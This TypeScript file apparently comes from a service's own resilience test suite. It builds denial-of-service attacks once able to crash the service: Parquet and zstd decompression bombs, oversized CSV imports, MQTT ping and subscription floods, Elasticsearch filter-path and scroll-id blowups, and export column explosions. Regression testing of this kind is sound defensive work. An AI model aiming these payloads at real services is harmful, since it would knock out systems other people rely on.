import { once } from 'node:events';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { deflateRawSync, zstdCompressSync } from 'node:zlib';
import { generate } from 'mqtt-packet';
import { dataPage, type Page, parquetFile, prefixed, run } from '../test/imports/parquet-file.js';
import { type Attack, type Attacker, attackerAddress, make, send } from './attack-call.js';

/* Attacks on file imports, MQTT, and the endpoints of search engine clients and exports. Each of them once stopped
   or crashed the service. */

const organizationOf = ({ organizationId }: Attacker) => `/ddp/v1/organizations/${organizationId}`;
const applicationOf = ({ organizationId, applicationId }: Attacker) =>
  `/ddp/v1/applications/${organizationId}/${applicationId}`;

const text = (value: string): Buffer => prefixed(Buffer.from(value));
const withPages = (...pages: readonly Page[]): Buffer =>
  parquetFile(1, [
    { name: 'serial', pages: [dataPage(1, text('f0-01'))], isRequired: true },
    { name: 'ts', pages: [dataPage(1, text('2024-05-01T12:00:00Z'))], isRequired: true },
    { name: 'level', pages, type: 5, codec: 6 },
  ]);

/** Uploads a file and deletes it again, as an organization may have only a few files at once. */
const importing = (of: Attacker, body: Buffer, type: string) => async (): Promise<number> => {
  const headers = { authorization: `Bearer ${of.token}`, 'content-type': type };
  const path = `${organizationOf(of)}/imports`;
  const answer = await of.client.request({ method: 'POST', path: `${path}/records`, headers, body });
  const { id } = (await answer.body.json()) as { id?: string };
  // A file that a job step is reading is deleted when the step ends.
  await pause(1000);
  if (id !== undefined) await remove(of, `${path}/${id}`);
  return answer.statusCode;
};

const remove = async ({ client, token }: Attacker, path: string): Promise<void> => {
  const answer = await client.request({ method: 'DELETE', path, headers: { authorization: `Bearer ${token}` } });
  await answer.body.dump();
};

/** Opens an MQTT connection that repeats the same packets for ten seconds and reads nothing. */
const flood = async ({ mqttUrl, token }: Attacker, packets: Buffer): Promise<void> => {
  const { hostname, port } = new URL(mqttUrl);
  const socket = connect({ host: hostname, port: Number(port), localAddress: attackerAddress });
  socket.on('error', () => undefined);
  const over = once(socket, 'close');
  socket.write(generate({ cmd: 'connect', clientId: '', username: token, protocolVersion: 4, keepalive: 0 }));
  await Promise.race([once(socket, 'data'), over]);
  socket.pause();
  const until = performance.now() + 10_000;
  while (performance.now() < until && !socket.destroyed)
    if (!socket.write(packets))
      await Promise.race([once(socket, 'drain'), over, pause(Math.max(0, until - performance.now()))]);
  socket.destroy();
};

const flooding = (workers: number, packets: Buffer): Attack => ({
  workers,
  prepare: async (of) => [() => flood(of, packets)],
});

const subscribing = Buffer.concat(
  Array.from({ length: 500 }, (_, index) =>
    Buffer.concat([
      generate({ cmd: 'subscribe', messageId: index + 1, subscriptions: [{ topic: 'a/+/#', qos: 0 }] }),
      generate({ cmd: 'unsubscribe', messageId: index + 1, unsubscriptions: ['a/+/#'] }),
    ]),
  ),
);

/** Returns an identifier in the old unsigned form, which decompressed to 4 MB. */
const unsigned = ({ organizationId, applicationId }: Attacker): string =>
  deflateRawSync(
    JSON.stringify({ kind: 'scroll', organizationId, applicationId, query: { q: ' '.repeat(4 * 2 ** 20) } }),
  ).toString('base64url');

export const doorAttacks: Readonly<Record<string, Attack>> = {
  'levels of Parquet': {
    workers: 2,
    prepare: async (of) =>
      [
        withPages(dataPage(1, prefixed(run(2 ** 27, 1)))),
        withPages(dataPage(1, prefixed(run(2 ** 30, 1)))),
        withPages(dataPage(2 ** 31 - 1, prefixed(run(1, 1)))),
      ].map((file) => importing(of, file, 'application/vnd.apache.parquet')),
  },
  'files that unpack to much': {
    workers: 4,
    async prepare(of) {
      const page = dataPage(2 ** 23, zstdCompressSync(Buffer.alloc(64 * 2 ** 20)), { unpacked: 64 * 2 ** 20 });
      const zeros = withPages(...Array.from({ length: 700 }, () => page));
      const rows = Buffer.from(`serial,ts,data.a\n${'ff,1,1\n'.repeat(200_000)}`);
      return [importing(of, zeros, 'application/vnd.apache.parquet'), importing(of, rows, 'text/csv')];
    },
  },
  'signs of life': flooding(400, Buffer.from('c000'.repeat(98_304), 'hex')),
  'subscriptions of MQTT': flooding(100, subscribing),
  'paths of filters': {
    workers: 4,
    async prepare(of) {
      const path = (stars: number) =>
        `${applicationOf(of)}/elasticsearch/_search?filter_path=`.concat('**.'.repeat(stars), 'x');
      const nobody = { 'content-type': 'application/json', authorization: 'Bearer nobody' };
      return [() => send(of, path(399)), () => send(of, path(1600)), () => send(of, path(1600), '{}', nobody)];
    },
  },
  'ids of scrolls': {
    workers: 4,
    async prepare(of) {
      const ids = Array.from({ length: 180 }, () => unsigned(of));
      const path = `${applicationOf(of)}/elasticsearch/_search`;
      return [
        () => send(of, `${path}/scroll`, JSON.stringify({ scroll_id: ids[0] })),
        () => send(of, `${path}/scroll`, JSON.stringify({ scroll_id: ids })),
        () => send(of, `${path}?scroll=1m&size=1`, '{}'),
      ];
    },
  },
  'columns of exports': {
    workers: 2,
    async prepare(of) {
      // The attack has an application of its own without hooks, as 400 such records would cause gigabytes of
      // deliveries.
      const at = organizationOf(of);
      const serial = 'c0-01';
      const device = await make(of, `${at}/devices/${serial}`, {});
      const application = await make(of, `${at}/applications`, { name: 'Columns' });
      const place = applicationOf({ ...of, applicationId: application });
      await send(of, `${place}/devices/${device}`, undefined, { 'content-type': 'application/json' }, 'PUT');
      const data = Object.fromEntries(Array.from({ length: 950 }, (_, index) => [`${'.'.repeat(100)}${index}`, 1]));
      const records = JSON.stringify(Array.from({ length: 80 }, () => ({ serial, data })));
      for (let call = 0; call < 5; call += 1) await send(of, `${at}/records`, records);
      const columns = encodeURIComponent(`data.${'.'.repeat(146)}`);
      return [() => send(of, `${place}/export?columns=${columns}`)];
    },
  },
};
